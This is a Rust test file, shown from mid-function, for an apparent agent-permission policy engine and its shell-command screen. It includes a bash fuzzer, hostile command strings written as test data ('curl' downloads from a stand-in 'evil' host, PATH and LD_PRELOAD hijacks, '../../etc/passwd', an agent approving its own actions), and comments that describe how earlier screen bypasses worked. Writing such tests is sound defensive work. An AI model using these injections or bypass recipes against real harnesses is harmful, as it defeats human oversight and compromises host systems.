            root(&other, WorkspaceMode::ReadWrite),
        ],
        &ws,
    );
    s.roots.protected = protected_paths(&HostConfig::safe_default("alice"), &state, &[]);
    s.level = Level::ReadOnly;

    let cases: Vec<(&str, serde_json::Value)> = vec![
        (
            "UNKNOWN_REQUEST",
            json!({"kind": "teleport", "actor": "main"}),
        ),
        (
            "UNKNOWN_ACTOR",
            json!({"kind": "skill", "actor": "ghost", "skill": "hello"}),
        ),
        (
            "UNKNOWN_TARGET",
            json!({"kind": "delegation", "actor": "main", "target": "ghost"}),
        ),
        (
            "SECRET_ENV_DENIED",
            json!({"kind": "capability", "actor": "main", "capability": "env:read", "target": "GATEHOUSE_DATABASE_URL"}),
        ),
        (
            "DELEGATION_NOT_ALLOWED",
            json!({"kind": "delegation", "actor": "worker", "target": "main"}),
        ),
        (
            "PRIVATE_MEMORY_DENIED",
            json!({"kind": "memory", "actor": "main", "scope": "private:worker", "access": "read"}),
        ),
        (
            "MEMORY_NOT_GRANTED",
            json!({"kind": "memory", "actor": "main", "scope": "secret", "access": "read"}),
        ),
        (
            "WORKSPACE_NOT_GRANTED",
            json!({"kind": "workspace", "actor": "main", "path": {"resolved": "/"}, "access": "read"}),
        ),
        (
            "WORKSPACE_READ_ONLY",
            json!({"kind": "workspace", "actor": "main", "path": resolve_path(&ro.join("x")), "access": "write"}),
        ),
        (
            "WORKSPACE_SCOPE_MISMATCH",
            json!({"kind": "workspace", "actor": "main", "path": resolve_path(&other.join("x")), "access": "read"}),
        ),
        (
            "PATH_RESOLUTION_FAILED",
            json!({"kind": "workspace", "actor": "main", "path": resolve_path(&ws.join("no/such/x")), "access": "read"}),
        ),
        (
            "POLICY_MUTATION_DENIED",
            json!({"kind": "workspace", "actor": "main", "path": resolve_path(&ws.join("state")), "access": "write"}),
        ),
        (
            "DEFINITION_MUTATION_DENIED",
            json!({"kind": "configuration", "actor": "main", "subject": "definition", "what": "actors.main"}),
        ),
        (
            "HOST_STATE_HIDDEN",
            json!({"kind": "workspace", "actor": "main", "path": resolve_path(&ws.join("state")), "access": "read"}),
        ),
        (
            "RAW_RUNTIME_TOOL_DENIED",
            json!({"kind": "tool", "actor": "main", "tool": "ls", "command": "ls; herdr run"}),
        ),
        (
            "INDIRECT_TOOL_REQUEST",
            json!({"kind": "tool", "actor": "main", "tool": "ls", "command": "ls `id`"}),
        ),
        (
            "TOOL_NOT_GRANTED",
            json!({"kind": "tool", "actor": "main", "tool": "rm"}),
        ),
        (
            "SKILL_NOT_GRANTED",
            json!({"kind": "skill", "actor": "main", "skill": "other"}),
        ),
        (
            "SUBAGENT_NOT_GRANTED",
            json!({"kind": "subagent", "actor": "main", "subagent": "other"}),
        ),
        (
            "MCP_SERVER_NOT_GRANTED",
            json!({"kind": "mcp", "actor": "main", "server": "github"}),
        ),
        (
            "CAPABILITY_UNKNOWN",
            json!({"kind": "capability", "actor": "main", "capability": "fs:delete", "target": "/x"}),
        ),
        (
            "CAPABILITY_DENIED",
            json!({"kind": "capability", "actor": "main", "capability": "fs:write", "target": "/x"}),
        ),
        (
            "TARGET_MISMATCH",
            json!({"kind": "capability", "actor": "main", "capability": "time:read", "target": "x"}),
        ),
    ];
    let mut seen = BTreeSet::new();
    for (want, request) in &cases {
        let d = decide_json(&s, request);
        assert_code(&d, want);
        // The decision serializes with the same stable string.
        let v = serde_json::to_value(&d).unwrap();
        assert_eq!(v["decision"], "deny");
        assert_eq!(v["code"], *want);
        seen.insert(*want);
    }
    assert_eq!(seen.len(), cases.len(), "one case per code");
    // Every code of the gate and the eight request kinds is produced by
    // `decide`, so each must have a case here; of the capability family,
    // `decide` produces these three (approval and isolation codes come from
    // the approval path and the sandbox, snapshot, component and limit
    // codes from elsewhere).
    use gatehouse::policy::CodeFamily as F;
    let from_decide: BTreeSet<&str> = DenyCode::ALL
        .iter()
        .filter(|c| {
            matches!(
                c.family(),
                F::Gate
                    | F::Delegation
                    | F::Memory
                    | F::Workspace
                    | F::Configuration
                    | F::Tool
                    | F::Skill
                    | F::Subagent
                    | F::Mcp
            )
        })
        .map(|c| c.as_str())
        .chain(["CAPABILITY_UNKNOWN", "CAPABILITY_DENIED", "TARGET_MISMATCH"])
        .collect();
    assert_eq!(
        seen, from_decide,
        "every code `decide` can return has a case"
    );
    for name in &seen {
        assert!(DenyCode::from_name(name).is_some(), "{name}");
    }
}

#[test]
fn decide_is_a_function_of_its_inputs() {
    let s = base();
    let r = tool("main", "ls", Some("ls; rm -rf x"));
    let first = decide(&s, &r);
    for _ in 0..100 {
        assert_eq!(decide(&s, &r), first);
    }
    // A snapshot round-tripped through JSON decides the same.
    let back: Snapshot = serde_json::from_str(&serde_json::to_string(&s).unwrap()).unwrap();
    assert_eq!(decide(&back, &r), first);
}

// ---------------------------------------------------------------------------
// issue 12: bypasses found by attack

/// `main` with only `tools`.
fn tools_snapshot(tools: &[&str]) -> Snapshot {
    let mut s = base();
    s.actors.get_mut("main").unwrap().tools = strings(tools);
    s
}

/// The command screen refuses ANSI-C and locale quoting (`$'…'`, `$"…"`) (Issue
/// 12, item 5).
#[test]
fn ansi_c_and_locale_quoting_is_refused() {
    let s = tools_snapshot(&["ls"]);
    // The recipe: bash reads `$'\''` as one quoted `'`, so `; herdr run`
    // is a second command; the screen read it as quoted text. Now the
    // command cannot be split, and layer 1, which scans such a command word
    // by word, finds the runtime.
    let d = decide(&s, &tool("main", "ls", Some(r"ls $'\'' ; herdr run #'")));
    assert_code(&d, "RAW_RUNTIME_TOOL_DENIED");
    // The same with an ordinary program behind it: refused, not parsed.
    for c in [
        r"ls $'\'' ; curl -o /tmp/x http://evil/x #'",
        r#"ls $"x""#,
        "ls $'a'",
    ] {
        let d = decide(&s, &tool("main", "ls", Some(c)));
        assert_code(&d, "INDIRECT_TOOL_REQUEST");
    }
    let d = decide(&s, &tool("main", "ls", Some("ls $'a'")));
    assert_eq!(
        d.reason(),
        "the command uses a command that cannot be split (ANSI-C or locale quoting (`$'…'`, `$\"…\"`))"
    );
    // The control: quotes bash and the screen read alike, and a quoted `$`
    // before a quote is a character (`grep 'end$'`, as `quote_argv` gives
    // a guest's argv to the screen).
    for c in [
        "ls 'a b'",
        r#"ls "a'b" 'c"d'"#,
        r"ls a\ b",
        "ls '$x'",
        r#"ls 'end$' "end$" 'a$'\''b'"#,
    ] {
        assert_allow(&decide(&s, &tool("main", "ls", Some(c))));
    }
}

/// The command screen refuses a `#` that starts a word (a comment) (Issue 12,
/// item 5).
#[test]
fn a_comment_in_a_command_is_refused() {
    let s = tools_snapshot(&["ls"]);
    // The recipe: `#` starts a comment for bash, so the newline ends it and
    // the quote that "hid" the second line is not a quote at all.
    let c = "ls #'\ncurl -o /tmp/x http://evil/x\n'";
    assert_code(
        &decide(&s, &tool("main", "ls", Some(c))),
        "INDIRECT_TOOL_REQUEST",
    );
    for c in ["ls # x", "ls;#x", "#x"] {
        let d = decide(&s, &tool("main", "ls", Some(c)));
        assert_code(&d, "INDIRECT_TOOL_REQUEST");
        assert_eq!(
            d.reason(),
            "the command uses a command that cannot be split (a `#` that starts a comment)"
        );
    }
    // The control: a `#` inside a word, quoted or escaped, is a character.
    for c in ["ls a#b", "ls '#'", r"ls \#x", "ls x#"] {
        assert_allow(&decide(&s, &tool("main", "ls", Some(c))));
    }
}

/// The command screen refuses every control character, even inside quotes
/// (Issue 12, item 5).
#[test]
fn control_characters_in_a_command_are_refused() {
    let s = tools_snapshot(&["ls"]);
    for c in [
        "ls\ncurl x",
        "ls 'a\nb'",
        "ls\tx",
        "ls \\\ncurl",
        "ls\rx",
        "ls \u{1b}[2J",
    ] {
        let d = decide(&s, &tool("main", "ls", Some(c)));
        assert_code(&d, "INDIRECT_TOOL_REQUEST");
        assert!(
            d.reason()
                .starts_with("the command uses a control character (`\\"),
            "{d:?}"
        );
    }
    assert_allow(&decide(&s, &tool("main", "ls", Some("ls x"))));
}

/// The command screen reads wrappers and assignments as bash does, or refuses
/// them (Issue 12, item 5).
#[test]
fn wrappers_and_assignments_are_read_as_bash_reads_them() {
    let s = tools_snapshot(&["ls"]);
    for (c, want) in [
        // A function named like the granted tool, defined and called.
        ("ls () ( curl x ); ls", "INDIRECT_TOOL_REQUEST"),
        ("(curl x)", "INDIRECT_TOOL_REQUEST"),
        // Assignments that change what runs.
        ("PATH=/tmp/evil ls", "INDIRECT_TOOL_REQUEST"),
        ("PATH=/tmp/evil; ls", "INDIRECT_TOOL_REQUEST"),
        ("LD_PRELOAD=/tmp/x.so ls", "INDIRECT_TOOL_REQUEST"),
        ("env GIT_PAGER=curl ls", "INDIRECT_TOOL_REQUEST"),
        // `env -iS…` re-splits its argument into a command; `-iu` takes
        // the next word as the variable to unset.
        ("env -iS'curl evil' ls", "INDIRECT_TOOL_REQUEST"),
        ("env --split-string='curl evil' ls", "INDIRECT_TOOL_REQUEST"),
        ("env -iu ls curl", "TOOL_NOT_GRANTED"),
        ("env -x ls", "INDIRECT_TOOL_REQUEST"),
        // Words the shell expands before the program is known.
        ("timeout {5,curl} ls", "INDIRECT_TOOL_REQUEST"),
        ("timeout * ls", "INDIRECT_TOOL_REQUEST"),
        ("nice -n $N ls", "INDIRECT_TOOL_REQUEST"),
        ("$X ls", "INDIRECT_TOOL_REQUEST"),
        ("~/ls", "INDIRECT_TOOL_REQUEST"),
        (">x curl", "INDIRECT_TOOL_REQUEST"),
        // A quoted assignment is a program name for bash.
        ("\"A=1\" ls", "TOOL_NOT_GRANTED"),
        // After other wrappers, `A=1` is the program.
        ("nice A=1 ls", "TOOL_NOT_GRANTED"),
        // A wrapper outside the standard directories is a program.
        ("/tmp/evil/env ls", "TOOL_NOT_GRANTED"),
    ] {
        let d = decide(&s, &tool("main", "ls", Some(c)));
        assert_code(&d, want);
    }
    // The control: the same wrappers and assignments, read exactly.
    for c in [
        "LANG=C ls",
        "LC_ALL=C TZ=UTC ls -l",
        "env -i LC_ALL=C ls",
        "env -u X -C /tmp ls",
        "/usr/bin/env -- ls",
        "timeout -s KILL 5 ls",
        "nice -n 5 ls",
        "nice -5 ls",
        "command -p ls",
        "exec ls",
        "time -p ls",
        "ls $HOME *.txt {a,b} ~ >out",
    ] {
        assert_allow(&decide(&s, &tool("main", "ls", Some(c))));
    }
}

/// A full path names a granted tool only in `/usr/local/bin`, `/usr/bin` or
/// `/bin` (Issue 12, item 13).
#[test]
fn a_full_path_outside_the_program_directories_is_not_the_granted_tool() {
    let s = tools_snapshot(&["ls"]);
    // The recipe: `/tmp/evil/ls` was the granted `ls` by its basename.
    for c in [
        "/tmp/evil/ls -la",
        "./ls",
        "bin/ls",
        "/usr/bin/../bin/ls",
        "/usr/sbin/ls",
    ] {
        let d = decide(&s, &tool("main", "ls", Some(c)));
        assert_code(&d, "TOOL_NOT_GRANTED");
    }
    assert_code(
        &decide(&s, &tool("main", "/tmp/evil/ls", None)),
        "TOOL_NOT_GRANTED",
    );
    // The control: the name, or the name in a directory the exec layer
    // resolves it from.
    for c in ["ls -la", "/usr/bin/ls", "/bin/ls", "/usr/local/bin/ls"] {
        assert_allow(&decide(&s, &tool("main", "ls", Some(c))));
    }
    assert_allow(&decide(&s, &tool("main", "/usr/bin/ls", None)));
}

/// The best-known program-running options (`find -exec`, `git -c`, …) are
/// refused, as defence in depth (Issue 12, item 13).
#[test]
fn options_that_run_programs_are_refused() {
    // Defence in depth only: the OS sandbox is what holds (tests/it/exec.rs).
    let s = tools_snapshot(&["find", "git", "awk", "tar", "touch"]);
    for c in [
        "find . -exec touch x ;",
        "find . -execdir touch x +",
        "git -c core.pager=touch log",
        "git -ccore.pager=touch log",
        "git --config-env=core.pager=X log",
        "git fetch --upload-pack=touch origin",
        "awk 'BEGIN{system(\"touch x\")}'",
        "awk '{print | \"touch x\"}' f",
        "tar --to-command=touch -xf a.tar",
    ] {
        let d = decide(&s, &tool("main", "find", Some(c)));
        assert_code(&d, "INDIRECT_TOOL_REQUEST");
        assert!(d.reason().ends_with("which runs another program"), "{d:?}");
    }
    for c in [
        "find . -name '*.rs'",
        "git log --oneline",
        "git switch -c topic",
        "git -C sub status",
        "awk '{print $1}' f",
        "tar -xf a.tar",
    ] {
        assert_allow(&decide(&s, &tool("main", "find", Some(c))));
    }
}

/// One host matcher: an address matches only an IP literal, and a wildcard
/// never covers an address (Issue 12, item 7).
#[test]
fn one_host_matcher_and_no_wildcard_over_an_address() {
    use gatehouse::policy::HostPattern;
    for bad in ["*.0.0.1", "*.1", "*.0x7f", "*.1.2.3.4:80"] {
        let e = HostPattern::parse(bad).unwrap_err();
        assert!(
            e.to_string()
                .ends_with("a wildcard cannot cover an IP address (its last label is a number)"),
            "{bad}: {e}"
        );
    }
    let p = |s: &str| HostPattern::parse(s).unwrap();
    // What the network layer's own matcher said, now the core's answer.
    for (pat, target, want) in [
        ("localhost:8080", "localhost:8080", true),
        ("localhost", "localhost.example", false),
        ("*.example.com", "a.example.com", true),
        ("*.example.com", "a.b.example.com:443", true),
        ("*.example.com", "example.com", false),
        ("*.example.com", "aexample.com", false),
        ("*.example.com", ".example.com", false),
        ("127.0.0.1:80", "127.0.0.1:80", true),
        ("127.0.0.1", "127.0.0.2", false),
        ("localhost", "127.0.0.1", false),
        ("127.0.0.1", "localhost", false),
        ("[::1]:80", "[::1]:80", true),
        ("[::1]", "[0:0:0:0:0:0:0:1]", true),
        ("[::1]", "::1", true),
        ("[::1]", "[::2]", false),
        ("127.0.0.1", "[::ffff:127.0.0.1]", true),
        // Under a real domain a name is a name, whatever its first labels.
        ("*.com", "0x7f.0.0.1.com", true),
        ("*.example.com", "Api.Example.COM", true),
    ] {
        assert_eq!(p(pat).covers(target), want, "{pat} covers {target}");
    }
    // Grants go through the same matcher: a hand-made `*.0.0.1` grant
    // covers nothing, an address grant covers its address.
    let mut s = base();
    s.grants = vec![grant(1, "network:sites", "*.0.0.1")];
    assert!(matches!(
        decide(&s, &cap("main", "network:sites", Some("127.0.0.1"), None)),
        Decision::ApprovalRequired { .. }
    ));
    s.grants = vec![grant(2, "network:sites", "127.0.0.1")];
    assert_allow(&decide(
        &s,
        &cap("main", "network:sites", Some("127.0.0.1"), None),
    ));
}

/// The core refuses a `resolved` path that is not absolute and normalized
/// (Issue 12, item 6).
#[test]
fn the_core_refuses_a_resolved_path_that_is_not_normalized() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let s = ws_snapshot(vec![root(&ws, WorkspaceMode::ReadWrite)], &ws);
    let w = canon(&ws);
    for bad in [
        format!("{w}/../../etc/passwd"),
        format!("{w}/./a"),
        format!("{w}//a"),
        format!("{w}/a/"),
        format!("{w}/.."),
    ] {
        let d = decide(
            &s,
            &ws_req("main", ResolvedPath::Resolved(bad.clone()), Access::Write),
        );
        assert_code(&d, "PATH_RESOLUTION_FAILED");
    }
    // The control: canonical paths under the root, and the root itself.
    for good in [format!("{w}/a"), w.clone(), format!("{w}/a/..b/.c")] {
        assert_allow(&decide(
            &s,
            &ws_req("main", ResolvedPath::Resolved(good), Access::Write),
        ));
    }
    // A `raw` path that reached the core unresolved is not a known shape.
    let d = decide_json(
        &s,
        &json!({"kind": "workspace", "actor": "main", "access": "read", "path": {"raw": format!("{w}/a")}}),
    );
    assert_code(&d, "UNKNOWN_REQUEST");
}

// ---------------------------------------------------------------------------
// item 5: the screen fuzzed against bash
//
// Random commands from a token alphabet are asked of `decide` for an actor
// whose tools are `ls`, `cat` and `git`. Every command the screen allows is
// then run by a real `bash -c` with a `PATH` of logging stubs (the real
// `env`, `nice`, `timeout`, `nohup` and `setsid` as wrappers, so that they
// start what they would), in a directory holding stubs too, next to a
// directory of "evil" stubs named like the granted tools. When the tests
// run as root, bash runs as `nobody`, so that a redirection in a random
// command (`ls > /usr/bin/env`) cannot clobber the host. A disagreement
// is an allowed command under which bash started anything but a granted
// tool from `PATH`: another program, a program from the working directory,
// or one from the evil directory. Denials cannot disagree in that sense.
//
// `the_screen_agrees_with_bash_on_random_commands` runs for 2 s in every
// `cargo test`; the long run is
//
//     GATEHOUSE_FUZZ_SECS=600 nice -n 19 cargo test --test it \
//         decide::the_screen_agrees_with_bash_on_random_commands_long -- --ignored --nocapture
//
// (`GATEHOUSE_FUZZ_SEED` picks the seed; it prints the cases it ran.)

const FUZZ_TOKENS: &[&str] = &[
    "ls",
    "ls",
    "cat",
    "git",
    "curl",
    "herdr",
    "env",
    "nice",
    "timeout",
    "nohup",
    "setsid",
    "command",
    "exec",
    "time",
    "builtin",
    "sudo",
    "-n",
    "5",
    "-5",
    "-i",
    "-u",
    "-iu",
    "-S",
    "-iS",
    "-C",
    "--",
    "-",
    "--unset",
    "--unset=X",
    "--split-string=curl",
    "-p",
    "-la",
    "-c",
    "x",
    ".",
    "A=1",
    "LANG=C",
    "PATH=.",
    "PATH=EVIL",
    "LD_X=1",
    "\"A=1\"",
    "'ls'",
    "\"curl\"",
    "l\\s",
    "c'ur'l",
    "\"c\"url",
    "$X",
    "\"$X\"",
    "${X}",
    "$*",
    "*",
    "?",
    "[c]url",
    "{curl,x}",
    "{5,curl}",
    "~",
    "~/ls",
    "/usr/bin/ls",
    "/usr/bin/env",
    "./curl",
    "./ls",
    "EVIL/ls",
    "EVIL/curl",
    ";",
    ";",
    "&&",
    "||",
    "|",
    "&",
    "|&",
    ">x",
    "2>&1",
    "<x",
    ">",
    "<<<x",
    "#",
    "#x",
    "a#b",
    "'#'",
    "\\#",
    "'",
    "\"",
    "'a b'",
    "\"a b\"",
    "$'x'",
    "$'\\''",
    "$\"x\"",
    "\\",
    "\\ ",
    "\n",
    "\t",
    "(",
    ")",
    "()",
    "{",
    "}",
    "!",
    "=",
    "x=",
    "`",
    "$(curl)",
    "'\\''",
    "\"\\\"\"",
    "\"\\\\\"",
    "'\"'",
    "\"'\"",
    "if",
    "then",
    "fi",
    "do",
    "done",
    "for",
    "in",
    "case",
    "esac",
    "[[",
    "]]",
    "function",
    "coproc",
    "trap",
    "alias",
    "source",
    "eval",
    "-iS'curl x'",
    "-vS",
    "--chdir=.",
    "-k",
    "1",
    "KILL",
    "-s",
    "--signal=KILL",
    "ls;curl",
    "ls&&curl",
    "ls|curl",
    "ls&curl",
    "ls>curl",
    "=curl",
    "'a$'",
    "\"a$\"",
    "'$'",
    "$",
    "a$",
];

/// A small deterministic generator (xorshift64*).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

struct FuzzBed {
    _tmp: tempfile::TempDir,
    stubs: PathBuf,
    evil: PathBuf,
    cwd: PathBuf,
    log: PathBuf,
}

impl FuzzBed {
    fn new() -> FuzzBed {
        use std::os::unix::fs::PermissionsExt;
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().canonicalize().unwrap();
        let (stubs, evil, cwd) = (root.join("stubs"), root.join("evil"), root.join("cwd"));
        for d in [&stubs, &evil, &cwd] {
            std::fs::create_dir_all(d).unwrap();
        }
        // Readable by `nobody`, who runs bash (see `run_bash`).
        std::fs::set_permissions(&root, std::fs::Permissions::from_mode(0o755)).unwrap();
        let log = root.join("log");
        let stub = |dir: &Path, name: &str, tag: &str| {
            let p = dir.join(name);
            std::fs::write(
                &p,
                format!("#!/bin/sh\necho '{tag}:{name}' >> '{}'\n", log.display()),
            )
            .unwrap();
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        };
        for name in [
            "ls", "cat", "git", "curl", "herdr", "sudo", "A=1", "x", "5", "-5",
        ] {
            stub(&stubs, name, "path");
            stub(&evil, name, "evil");
        }
        for w in ["env", "nice", "timeout", "nohup", "setsid"] {
            std::os::unix::fs::symlink(format!("/usr/bin/{w}"), stubs.join(w)).unwrap();
        }
        FuzzBed {
            _tmp: tmp,
            stubs,
            evil,
            cwd,
            log,
        }
    }

    /// Fresh stubs in the working directory (a redirection may have
    /// overwritten them).
    fn reset_cwd(&self) {
        use std::os::unix::fs::PermissionsExt;
        let _ = std::fs::remove_dir_all(&self.cwd);
        std::fs::create_dir_all(&self.cwd).unwrap();
        for name in ["ls", "curl", "5", "x", "A=1"] {
            let p = self.cwd.join(name);
            std::fs::write(
                &p,
                format!("#!/bin/sh\necho 'cwd:{name}' >> '{}'\n", self.log.display()),
            )
            .unwrap();
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        std::os::unix::fs::symlink(&self.evil, self.cwd.join("EVIL")).unwrap();
        std::fs::set_permissions(&self.cwd, std::fs::Permissions::from_mode(0o777)).unwrap();
        std::fs::write(&self.log, "").unwrap();
        std::fs::set_permissions(&self.log, std::fs::Permissions::from_mode(0o666)).unwrap();
    }

    /// What bash started for `command`: the stubs' log lines.
    fn run_bash(&self, command: &str) -> Vec<String> {
        self.reset_cwd();
        let mut bash = std::process::Command::new("/bin/bash");
        // SAFETY: `geteuid` takes no arguments and cannot fail.
        if unsafe { libc::geteuid() } == 0 {
            // Never as root: a random redirection could truncate any file.
            bash.uid(65534).gid(65534);
        }
        let mut child = bash
            .arg("-c")
            // Background jobs are waited for, so their stubs log too.
            .arg(format!("{command}\nwait"))
            .env_clear()
            .env("PATH", &self.stubs)
            .env("EVIL", &self.evil)
            .current_dir(&self.cwd)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .process_group(0)
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
        loop {
            if child.try_wait().unwrap().is_some() {
                break;
            }
            if std::time::Instant::now() > deadline {
                // SAFETY: signals the group the child leads; no memory.
                unsafe { libc::kill(-(child.id() as i32), libc::SIGKILL) };
                let _ = child.wait();
                break;
            }
            std::thread::sleep(std::time::Duration::from_micros(300));
        }
        std::fs::read_to_string(&self.log)
            .unwrap()
            .lines()
            .map(str::to_string)
            .collect()
    }
}

use std::os::unix::process::CommandExt as _;

/// Runs the fuzzer for `secs` seconds: (cases, allowed, disagreements).
fn fuzz_screen(secs: u64, seed: u64) -> (u64, u64, Vec<(String, Vec<String>)>) {
    let s = tools_snapshot(&["ls", "cat", "git"]);
    let bed = FuzzBed::new();
    let mut rng = Rng(seed | 1);
    let until = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    let (mut cases, mut allowed) = (0u64, 0u64);
    let mut bad = Vec::new();
    let granted = ["path:ls", "path:cat", "path:git"];
    while std::time::Instant::now() < until {
        let n = 1 + rng.below(7);
        let mut command = String::new();
        for i in 0..n {
            if i > 0 {
                // Mostly a space; sometimes none, so tokens run together.
                if rng.below(5) != 0 {
                    command.push(' ');
                }
            }
            command.push_str(FUZZ_TOKENS[rng.below(FUZZ_TOKENS.len())]);
        }
        cases += 1;
        if !decide(&s, &tool("main", "ls", Some(&command))).is_allow() {
            continue;
        }
        allowed += 1;
        let started = bed.run_bash(&command);
        if started.iter().any(|l| !granted.contains(&l.as_str())) {
            eprintln!("disagreement: {command:?} started {started:?}");
            bad.push((command, started));
        }
    }
    (cases, allowed, bad)
}

fn fuzz_seed(default: u64) -> u64 {
    std::env::var("GATEHOUSE_FUZZ_SEED")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

/// Fuzzing, 2 s: every command the screen allows, run by a real bash with
/// logging stubs, starts only the granted tools (Issue 12, item 5).
#[test]
fn the_screen_agrees_with_bash_on_random_commands() {
    let (cases, allowed, bad) = fuzz_screen(2, fuzz_seed(0x9e37_79b9_7f4a_7c15));
    assert!(allowed > 20, "too few allowed cases: {allowed} of {cases}");
    assert!(bad.is_empty(), "{} disagreements: {bad:#?}", bad.len());
}

/// The same fuzzing for `GATEHOUSE_FUZZ_SECS` (ignored by default) (Issue 12,
/// item 5).
#[test]
#[ignore = "long: GATEHOUSE_FUZZ_SECS (600) of fuzzing; run with --ignored"]
fn the_screen_agrees_with_bash_on_random_commands_long() {
    let secs = std::env::var("GATEHOUSE_FUZZ_SECS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(600);
    let seed = fuzz_seed(
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos() as u64)
            .unwrap_or(1),
    );
    let started = std::time::Instant::now();
    let (cases, allowed, bad) = fuzz_screen(secs, seed);
    println!(
        "fuzz: seed {seed}, {:.0} s, {cases} cases, {allowed} allowed and run by bash, {} disagreements",
        started.elapsed().as_secs_f64(),
        bad.len()
    );
    assert!(bad.is_empty(), "{} disagreements: {bad:#?}", bad.len());
}

/// Issue 12, item 8, in the core: a grant is matched on the canonical
/// target the resolver passes in, not on the name the executor declared.
/// A grant on `/w/out/**` covers `/w/out/**` resolved to itself (the
/// control) and not `/w/out/**` resolved to `/w/private/**` (a link):
/// that asks for an approval on `/w/private/**`, and the executor's
/// declaration is still checked on `/w/out/**`. A canonical target that
/// is not a normalized glob, changes the wildcards, or comes with a
/// capability that has no path target is refused.
#[test]
fn grants_are_matched_on_the_canonical_target() {
    let mut s = base();
    s.grants = vec![grant(7, "fs:write", "/w/out/**")];
    s.executors.insert(
        "writer".into(),
        ExecutorDef {
            component: "/x.wasm".into(),
            command: vec![],
            sha256: None,
            capabilities: vec![DeclaredCapability {
                capability: Capability::FsWrite,
                target: Some("/w/out/**".into()),
                mount: None,
                methods: None,
            }],
            revertible: false,
            reverse_pattern: None,
            tools: vec![],
        },
    );
    let ask = |target: &str, canonical: Option<&str>, cap: &str| {
        decide(
            &s,
            &req(
                "main",
                RequestKind::Capability {
                    capability: cap.parse().unwrap(),
                    target: Some(target.into()),
                    canonical_target: canonical.map(str::to_string),
                    executor: Some("writer".into()).filter(|_| cap == "fs:write"),
                },
            ),
        )
    };
    let same = ask("/w/out/**", Some("/w/out/**"), "fs:write");
    assert_allow(&same);
    assert_eq!(same.grant(), Some(7));
    let linked = ask("/w/out/**", Some("/w/private/**"), "fs:write");
    assert_eq!(
        linked,
        Decision::ApprovalRequired {
            capability: Capability::FsWrite,
            target: Some("/w/private/**".into()),
            reason: "Supervised needs an approval for `fs:write` and no grant covers it".into(),
        }
    );
    assert_code(
        &ask("/w/out/**", Some("/w/x/../out/**"), "fs:write"),
        "PATH_RESOLUTION_FAILED",
    );
    assert_code(
        &ask("/w/out/**", Some("private/**"), "fs:write"),
        "PATH_RESOLUTION_FAILED",
    );
    // (`out -> .` resolves `/w/out/**` to `/w/**`: the same wildcards.)
    assert!(matches!(
        ask("/w/out/**", Some("/w/**"), "fs:write"),
        Decision::ApprovalRequired { .. }
    ));
    assert_code(
        &ask("/w/out/a.md", Some("/w/out/*.md"), "fs:write"),
        "TARGET_MISMATCH",
    );
    assert_code(
        &ask("example.com", Some("/w/out"), "network:sites"),
        "UNKNOWN_REQUEST",
    );
    // The declaration is checked on the declared name.
    assert_code(
        &ask("/w/other/**", Some("/w/out/**"), "fs:write"),
        "TARGET_MISMATCH",
    );
}

#[test]
fn the_host_program_is_refused_as_a_tool_and_inside_commands() {
    let mut s = base();
    // Even granted as a tool, and behind wrappers and paths: an executor
    // that could run `gatehouse` could approve its own pending turns.
    s.actors.get_mut("main").unwrap().tools = strings(&["gatehouse", "shell", "ls", "env", "sudo"]);
    for (t, c) in [
        ("gatehouse", None),
        ("/usr/local/bin/gatehouse", None),
        ("gatehouse", Some("gatehouse approvals allow p-1 --yes")),
        ("shell", Some("ls; gatehouse grants add fs:write /**")),
        (
            "shell",
            Some("/usr/bin/env LANG=C /home/a/.cargo/bin/gatehouse run x"),
        ),
        ("shell", Some("sudo gatehouse approvals list")),
        ("shell", Some("echo 'unterminated; gatehouse")),
    ] {
        let d = decide(&s, &tool("main", t, c));
        assert_code(&d, "POLICY_MUTATION_DENIED");
    }
    let d = decide(&s, &tool("main", "shell", Some("ls && gatehouse undo")));
    assert_eq!(
        d.reason(),
        "the command runs `gatehouse`, this host's own program"
    );
    // A mention as an argument is not an invocation; other tools still run.
    assert_allow(&decide(&s, &tool("main", "ls", Some("ls gatehouse"))));
}

/// Issue 27, point 1: the core judges a grant's expiry at the time it is
/// given (`now`), whatever the snapshot holds: the same snapshot and
/// request are allowed by the grant the second before its expiry and need
/// an approval from its expiry on.
#[test]
fn a_grant_counts_only_until_its_expiry_at_the_time_of_the_decision() {
    let mut s = base();
    s.level = Level::Supervised;
    s.grants = vec![Grant {
        expires_at: Some(UtcTime(5_000)),
        ..grant(9, "fs:write", "/ws/**")
    }];
    let r = cap("main", "fs:write", Some("/ws/a.txt"), None);
    let before = gatehouse::policy::decide(&s, &r, UtcTime(4_999));
    assert!(
        matches!(before, Decision::Allow { grant: Some(_), .. }),
        "{before:?}"
    );
    for at in [5_000, 5_001] {
        let after = gatehouse::policy::decide(&s, &r, UtcTime(at));
        assert!(
            matches!(after, Decision::ApprovalRequired { .. }),
            "at {at}: {after:?}"
        );
    }
}

/// security round 3, item 1: `env:read` of a provider's `value_env` or of
/// any `GATEHOUSE_*` variable is `SECRET_ENV_DENIED` at every level, even
/// at Full and with a grant that names it exactly; the positive control,
/// another variable, is allowed at Full and covered by its grant at
/// Supervised.
#[test]
fn env_read_of_a_host_secret_is_refused_at_every_level_whatever_a_grant_says() {
    let env_read = |name: &str| json!({"kind": "capability", "actor": "main", "capability": "env:read", "target": name});
    for level in [Level::ReadOnly, Level::Supervised, Level::Full] {
        let mut s = snapshot(level, vec![("main", actor_main())]);
        s.roots.secret_env = strings(&["API_TOKEN"]);
        s.grants = vec![
            grant(1, "env:read", "API_TOKEN"),
            grant(2, "env:read", "GATEHOUSE_DATABASE_URL"),
